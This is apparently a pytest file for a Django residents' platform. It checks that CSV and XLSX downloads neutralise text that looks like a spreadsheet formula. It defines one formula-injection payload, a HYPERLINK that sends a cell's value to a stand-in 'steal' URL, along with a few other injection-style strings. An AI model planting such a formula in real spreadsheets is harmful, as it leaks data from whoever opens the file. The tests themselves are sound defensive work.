"""Typed text never runs as a formula in a spreadsheet: the shared CSV and XLSX helpers, and the
downloads outside the scorecards that use them (a resident's own contributions, the TSM tables).
The scorecards' own downloads are tested in tests/publication."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from residentvoice.core.spreadsheets import csv_cell, csv_row, xlsx_row, xlsx_set
from residentvoice.participation import services
from residentvoice.tsm.downloads import csv_bytes, xlsx_bytes

from ..participation import builders

FORMULA = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1 for the new lifts", "'-1 for the new lifts"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Residents said = fine", "Residents said = fine"),
        ("", ""),
        ("-5.9", "-5.9"),  # a number written as text is still just a number
        ("+12", "+12"),
    ],
)
def test_csv_text_that_looks_like_a_formula_gets_an_apostrophe(typed, written):
    assert csv_cell(typed) == written


def test_csv_numbers_and_empty_values_are_left_alone():
    assert csv_row([-5.9, 0, None, 12]) == [-5.9, 0, None, 12]


def _reloaded(workbook: Workbook) -> Workbook:
    out = io.BytesIO()
    workbook.save(out)
    return load_workbook(io.BytesIO(out.getvalue()))


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_that_looks_like_a_formula_is_a_text_cell(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Data")
    sheet.append(xlsx_row(sheet, [FORMULA, -5.9, "plain", "bell\x07 dropped"]))
    row = next(_reloaded(workbook)["Data"].iter_rows())
    assert row[0].value == FORMULA
    assert row[0].data_type == "s"  # text, never a formula
    assert row[1].value == -5.9
    assert row[1].data_type == "n"
    assert row[3].value == "bell dropped"  # control characters cannot be stored: dropped


def test_xlsx_set_puts_text_in_an_existing_cell():
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    xlsx_set(sheet.cell(row=1, column=1), FORMULA)
    cell = _reloaded(workbook).active["A1"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_tsm_downloads_keep_typed_text_as_text():
    rows = list(
        csv.reader(io.StringIO(csv_bytes(["reason"], [[FORMULA], [71.5]]).decode("utf-8-sig")))
    )
    assert rows[1] == ["'" + FORMULA]
    assert rows[2] == ["71.5"]
    workbook = load_workbook(io.BytesIO(xlsx_bytes(["reason"], [[FORMULA]], title="TSM")))
    cell = workbook["TSM"]["A2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_my_contributions_csv_keeps_typed_text_as_text(client, landlord, people):
    resident = people["resident"]
    panel = builders.panel_with_chair(landlord=landlord, chair=resident)
    services.topic_propose(
        round=builders.topic_round(panel), user=resident, title=FORMULA, description="=1+1"
    )
    client.force_login(resident)
    response = client.get(reverse("participation:my-contributions-download", args=["csv"]))
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)
